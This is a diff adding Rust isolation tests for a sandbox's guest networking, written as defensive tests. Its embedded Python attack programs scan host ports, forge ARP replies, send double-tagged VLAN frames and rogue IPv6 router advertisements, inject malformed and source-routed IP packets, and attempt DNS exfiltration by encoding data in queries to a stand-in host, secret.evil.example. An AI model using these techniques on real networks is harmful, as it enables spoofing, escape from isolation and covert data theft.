@@ -1,0 +1,331 @@
+//! What root in a guest tries by network, beyond what network.rs has: ports of the daemon, raw frames, names as a way out.
+#![allow(clippy::unwrap_used, clippy::panic)]
+
+mod support;
+
+use serde_json::json;
+use std::collections::BTreeSet;
+use std::net::UdpSocket;
+use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::thread::{self, JoinHandle};
+use std::time::Duration;
+use support::lab::{HOST, RESOLVER, with_lab};
+use support::networked::{clean, create, networked, python, reach, root_python};
+use support::place::Place;
+
+/// Frames by hand, for programs in guests.
+const FRAMES: &str = r#"
+import struct
+OWN = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
+GATEWAY = b"\x02\x4a\x49\x46\x46\x02"
+EVERYBODY = b"\xff" * 6
+link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+link.bind(("eth0", 0))
+def send(kind, payload, to=GATEWAY, source=OWN):
+    try: link.send(to + source + struct.pack("!H", kind) + payload.ljust(46, b"\0"))
+    except OSError as e: return type(e).__name__
+def checksum(data):
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16: total = (total & 0xffff) + (total >> 16)
+    return struct.pack("!H", total ^ 0xffff)
+def ip(to, protocol, payload, source="169.254.0.21", fragment=0, options=b""):
+    head = struct.pack("!BBHHHBB", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), 77, fragment, 64, protocol)
+    tail = socket.inet_aton(source) + socket.inet_aton(to) + options
+    return head + checksum(head + tail) + tail + payload
+def udp(to, text, port=7, **more):
+    return ip(to, 17, struct.pack("!HHHH", 5000, port, 8 + len(text), 0) + text, **more)
+"#;
+
+/// Numbers of the TCP ports that somebody listens at in this network namespace.
+fn listening() -> BTreeSet<u16> {
+    let mut ports = BTreeSet::new();
+    for file in ["tcp", "tcp6"] {
+        let text = std::fs::read_to_string(format!("/proc/thread-self/net/{file}"));
+        for line in text.unwrap_or_default().lines().skip(1) {
+            let fields: Vec<&str> = line.split_whitespace().collect();
+            // TCP_LISTEN (include/net/tcp_states.h).
+            if fields[3] == "0A" {
+                let port = fields[1].rsplit(':').next().unwrap();
+                ports.insert(u16::from_str_radix(port, 16).unwrap());
+            }
+        }
+    }
+    ports
+}
+
+#[test]
+fn no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host() {
+    let test = "no_address_leads_a_guest_to_its_daemon_or_to_a_port_of_its_host";
+    with_lab(test, |_| {
+        let Some(place) = Place::new(test) else {
+            return;
+        };
+        let heard = UdpSocket::bind("0.0.0.0:7").unwrap();
+        // Without a key it would not listen to others.
+        place.ok(&["key", "create", "--name", "test"]);
+        let start = ["daemon", "start", "--listen", "0.0.0.0:0"];
+        let options = ["--network", "on", "--warm-pool", "0"];
+        let told = place.ok(&[&start[..], &options].concat());
+        let port = told.lines().find_map(|l| l.strip_prefix("listening on "));
+        let port: u16 = port.unwrap().rsplit(':').next().unwrap().parse().unwrap();
+        let mut ports = listening();
+        assert!(ports.contains(&port), "{ports:?} of {told}");
+        // Of its namespace: names, the way by name, and what a careless program might listen at.
+        ports.extend([22, 53, 80, 443, 3000, 3180, 3443, 8080, 49_983, 49_984]);
+        let id = place.ok(&["create"]);
+        let slots: Vec<String> = (0..8).map(|i| format!("198.18.0.{i}")).collect();
+        let addresses = [
+            HOST,
+            "169.254.0.22",
+            "169.254.0.1",
+            "0.0.0.0",
+            "203.0.113.255",
+        ];
+        let addresses = addresses.map(str::to_owned).into_iter().chain(slots);
+        let (addresses, ports): (Vec<_>, Vec<_>) = (addresses.collect(), ports.iter().collect());
+        let program = format!(
+            r#"
+found = set()
+for host in {addresses:?}:
+    for port in {ports:?}:
+        s = socket.socket()
+        s.settimeout(2)
+        # Towards the card, also what this guest takes for itself.
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
+        try: s.connect((host, port)); found.add((host, port))
+        except OSError: pass
+        s.close()
+print(sorted(found))
+"#
+        );
+        // Its own name server is all there is; the address of everybody is the guest itself.
+        assert_eq!(root_python(&place, &id, &program), "[('169.254.0.22', 53)]");
+        // By hand also to where no socket would send: the host's loopback, everybody, many, itself under another name; with a route of
+        // the sender's choice (RFC 791, loose source routing).
+        let program = format!(
+            r#"{FRAMES}
+here = ["127.0.0.1", "{HOST}", "0.0.0.0", "255.255.255.255", "224.0.0.1", "203.0.113.255"]
+here += ["198.18.0.%d" % n for n in range(16)]
+for to in here:
+    for mac in (GATEWAY, EVERYBODY, b"\x01\x00\x5e\x00\x00\x01"):
+        send(0x0800, udp(to, b"here"), mac)
+    send(0x0800, udp(to, b"by the way", options=b"\x83\x07\x04" + socket.inet_aton("{HOST}") + b"\0"))
+    send(0x0800, udp("9.9.9.9", b"by the way", options=b"\x83\x07\x04" + socket.inet_aton(to) + b"\0"))
+"#
+        );
+        root_python(&place, &id, &program);
+        // What was sent before has passed when an answer came back over the same wire.
+        assert_eq!(reach(&place, &id, "9.9.9.9"), "internet");
+        heard.set_nonblocking(true).unwrap();
+        let mut buffer = [0; 64];
+        assert!(
+            heard.recv_from(&mut buffer).is_err(),
+            "the host was reached"
+        );
+        place.ok(&["daemon", "stop", "--kill-sandboxes"]);
+        drop(place);
+        clean();
+    });
+}
+
+/// Everything that arrives from slots in the lab's host, until told to stop: kinds of frames and, of IPv4, where from.
+fn listen_to_slots(stop: Arc<AtomicBool>) -> JoinHandle<BTreeSet<String>> {
+    let all = libc::ETH_P_ALL.cast_unsigned() as u16;
+    // SAFETY: makes a socket, in the network namespace of this thread.
+    let fd = unsafe {
+        libc::socket(
+            libc::AF_PACKET,
+            libc::SOCK_RAW | libc::SOCK_NONBLOCK,
+            all.to_be().into(),
+        )
+    };
+    assert!(fd >= 0);
+    // SAFETY: it was just made and is nobody else's.
+    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
+    thread::spawn(move || {
+        let mut seen = BTreeSet::new();
+        let mut frame = [0u8; 2048];
+        while !stop.load(Ordering::SeqCst) {
+            // SAFETY: all zeroes are a valid `sockaddr_ll`, which is plain integers.
+            let mut from: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
+            let mut length = size_of::<libc::sockaddr_ll>().try_into().unwrap();
+            // SAFETY: buffer and address are of the lengths given and live through the call.
+            let read = unsafe {
+                libc::recvfrom(
+                    socket.as_raw_fd(),
+                    frame.as_mut_ptr().cast(),
+                    frame.len(),
+                    0,
+                    (&raw mut from).cast(),
+                    &raw mut length,
+                )
+            };
+            if read < 34 {
+                thread::sleep(Duration::from_millis(1));
+                continue;
+            }
+            let index = from.sll_ifindex.cast_unsigned();
+            let name = nix::net::if_::if_indextoname(index);
+            let slot = name.is_ok_and(|name| name.to_string_lossy().starts_with("jf"));
+            if slot && from.sll_pkttype != libc::PACKET_OUTGOING {
+                let kind = u16::from_be_bytes([frame[12], frame[13]]);
+                seen.insert(match kind {
+                    0x0800 => format!("IPv4 from {}.{}", frame[26], frame[27]),
+                    0x0806 => "ARP".to_owned(),
+                    other => format!("{other:#06x}"),
+                });
+            }
+        }
+        seen
+    })
+}
+
+#[test]
+fn raw_frames_of_any_kind_come_to_nobody() {
+    let test = "raw_frames_of_any_kind_come_to_nobody";
+    networked(test, &[], |place, lab| {
+        let (id, other) = (place.ok(&["create"]), place.ok(&["create"]));
+        assert_eq!(reach(place, &other, "9.9.9.9"), "internet");
+        let stop = Arc::new(AtomicBool::new(false));
+        let sniffer = listen_to_slots(stop.clone());
+        let program = format!(
+            r#"{FRAMES}
+def arp(operation, mac, address, to=GATEWAY):
+    send(0x0806, struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + mac + socket.inet_aton(address) + to + socket.inet_aton("169.254.0.22"), to)
+    send(0x0806, struct.pack("!HHBBH", 1, 0x800, 6, 4, operation) + mac + socket.inet_aton(address) + EVERYBODY + socket.inet_aton(address), EVERYBODY)
+# Whoever believes one of these sends elsewhere from then on.
+for operation in (1, 2):
+    for address in ("169.254.0.22", "169.254.0.23", "198.18.0.0", "198.18.0.1", "198.18.0.2", "203.0.113.1"):
+        arp(operation, OWN, address)
+        arp(operation, GATEWAY, address)
+    arp(operation, b"\x02\0\0\0\0\x01", "169.254.0.21")
+packet = udp("9.9.9.9", b"in disguise")
+# Kinds that nobody here speaks: LLDP, EAPOL, MPLS, PPPoE, loopback, Novell's, 802.3 lengths.
+for kind in (0x88cc, 0x888e, 0x8847, 0x8848, 0x8863, 0x8864, 0x9000, 0x8137, 0x0026, 0x22f0, 0xffff):
+    for to in (GATEWAY, EVERYBODY, b"\x01\x80\xc2\0\0\x0e"):
+        send(kind, packet, to)
+# In virtual networks, once and twice.
+for tag in (0, 1, 100, 4095):
+    for outer in (0x8100, 0x88a8, 0x9100):
+        send(outer, struct.pack("!HH", tag, 0x0800) + packet)
+        send(outer, struct.pack("!HHHH", tag, 0x8100, tag, 0x0800) + packet)
+# A router of IPv6 with a prefix of its own, and a neighbour.
+router = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\3\4\x40\xc0" + b"\xff" * 8 + bytes(4) + bytes.fromhex("20010db8") + bytes(12)
+for kind in (router, struct.pack("!BBHI", 136, 0, 0, 0xe0000000) + bytes.fromhex("fe80") + bytes(14)):
+    head = struct.pack("!IHBB", 0x60000000, len(kind), 58, 255) + bytes.fromhex("fe80") + bytes(13) + b"\1"
+    send(0x86dd, head + bytes.fromhex("ff02") + bytes(13) + b"\1" + kind, b"\x33\x33\0\0\0\1")
+# An address of IPv6 set by hand, in spite of what it was told.
+for name in ("all", "eth0"):
+    try: open("/proc/sys/net/ipv6/conf/%s/disable_ipv6" % name, "w").write("0")
+    except OSError: pass
+try:
+    import fcntl
+    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    index = socket.if_nametoindex("eth0")
+    fcntl.ioctl(six, 0x8916, socket.inet_pton(socket.AF_INET6, "2001:db8::2") + struct.pack("Ii", 64, index))
+    for to in ("2001:db8::1", "ff02::1"):
+        six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
+        six.sendto(b"by IPv6", (to, 7, 0, index))
+except OSError: pass
+# Larger than the card's, broken, in pieces, too short for their headers, of other protocols within.
+for length in (1500, 2000, 9000, 65000):
+    send(0x0800, udp("9.9.9.9", b"x" * length)[:length + 20])
+for packet in (b"", b"\x45", b"\x4f" + b"\0" * 19, b"\x45\0\xff\xff" + packet[4:], b"\x65" + packet[1:], packet[:24]):
+    send(0x0800, packet)
+for fragment in (0x2000, 0x1fff, 0x3fff):
+    send(0x0800, udp("9.9.9.9", b"x" * 1400, fragment=fragment))
+for protocol in (2, 4, 41, 47, 50, 89, 112, 132, 255):
+    send(0x0800, ip("{HOST}", protocol, packet))
+send(0x0800, udp("9.9.9.9", b"its own"))
+"#
+        );
+        root_python(place, &id, &program);
+        // What came before it was sent before it, on the same way.
+        let (from, text) = lab.datagrams.recv_timeout(Duration::from_secs(20)).unwrap();
+        assert_eq!(String::from_utf8_lossy(&text), "its own");
+        assert_eq!(from.ip().to_string(), HOST);
+        // Nobody was led astray.
+        assert_eq!(reach(place, &other, "9.9.9.9"), "internet");
+        assert_eq!(reach(place, &id, "9.9.9.9"), "internet");
+        stop.store(true, Ordering::SeqCst);
+        let seen = sniffer.join().unwrap();
+        let expected = ["ARP", "IPv4 from 198.18"].map(str::to_owned);
+        assert!(seen.is_subset(&expected.into()), "{seen:?}");
+        assert!(seen.contains("IPv4 from 198.18"), "nothing was heard");
+    });
+}
+
+/// Asks name servers by hand, for programs in guests.
+const ASK: &str = r#"
+import struct
+def question(name, kind):
+    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
+    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
+def ask(server, name, kind=1, over="udp"):
+    text = question(name, kind)
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM if over == "udp" else socket.SOCK_STREAM) as s:
+            s.settimeout(3)
+            s.connect((server, 53))
+            s.send(text if over == "udp" else struct.pack("!H", len(text)) + text)
+            if over == "udp": answer = s.recv(512)
+            else:
+                file = s.makefile("rb")
+                answer = file.read(*struct.unpack("!H", file.read(2)))
+            # NOERROR, REFUSED, or not even a header (RFC 1035 4.1.1).
+            return {0: "answer", 5: "refused"}.get(answer[3] & 15, "other") if len(answer) > 3 else "closed"
+    except OSError: return "nobody"
+"#;
+
+#[test]
+fn names_carry_nothing_out_where_nothing_or_only_names_may_be_reached() {
+    let test = "names_carry_nothing_out_where_nothing_or_only_names_may_be_reached";
+    networked(test, &[], |place, _| {
+        let say = |id: &str, program: &str| python(place, id, &format!("{ASK}\n{program}"));
+        // A (1), NS, CNAME, NULL, TXT and AAAA; its own server and others, which would answer.
+        let program = format!(
+            r#"
+def all(name):
+    own = {{ask("169.254.0.22", name, kind, over) for kind in (1, 2, 5, 10, 16, 28) for over in ("udp", "tcp")}}
+    others = {{ask("{RESOLVER}", name, kind, over) for kind in (1, 16) for over in ("udp", "tcp")}}
+    return sorted(own), sorted(others)
+print(all("aGVsbG8.secret.evil.example"), all("good.example")[0])
+"#
+        );
+        let open = create(place, json!({}));
+        // Others are anybody in the internet: over TCP what listens there is no name server.
+        let told = say(&open, &program);
+        assert!(told.contains("'answer'"), "{told}");
+        assert!(!told.contains("'refused'"), "{told}");
+        let at_resolver = format!("print(ask('{RESOLVER}', 'a.example'), tcp('{RESOLVER}', 53))");
+        assert_eq!(say(&open, &at_resolver), "answer internet");
+
+        let closed = create(place, json!({ "allow_internet_access": false }));
+        let none = "(['refused'], ['nobody']) ['refused']";
+        assert_eq!(say(&closed, &program), none);
+
+        let rules =
+            json!({ "network": { "allowOut": ["good.example"], "denyOut": ["0.0.0.0/0"] } });
+        let names = create(place, rules);
+        let told = say(&names, &program);
+        assert!(told.starts_with("(['refused'], ['nobody']) "), "{told}");
+        assert!(told.contains("answer"), "{told}");
+        // Nor hidden in one that is allowed: as two questions, as another class, or behind what a server would cut off.
+        let hidden = r#"
+def raw(text):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(1)
+        s.connect(("169.254.0.22", 53))
+        s.send(text)
+        try: return s.recv(512)[3] & 15
+        except OSError: return "silence"
+good, evil = question("good.example", 16), question("secret.evil.example", 16)
+two = good[:4] + struct.pack("!4H", 2, 0, 0, 0) + good[12:] + evil[12:]
+print(raw(two), raw(evil[:2] + b"\x29" + evil[3:]), raw(evil[:2] + b"\x81" + evil[3:]), raw(b"\0" * 11), raw(evil[:20]))
+"#;
+        // NOTIMP (4) for more than one question and for updates; answers and what is cut short get none.
+        assert_eq!(say(&names, hidden), "4 4 silence silence silence");
+    });
+}
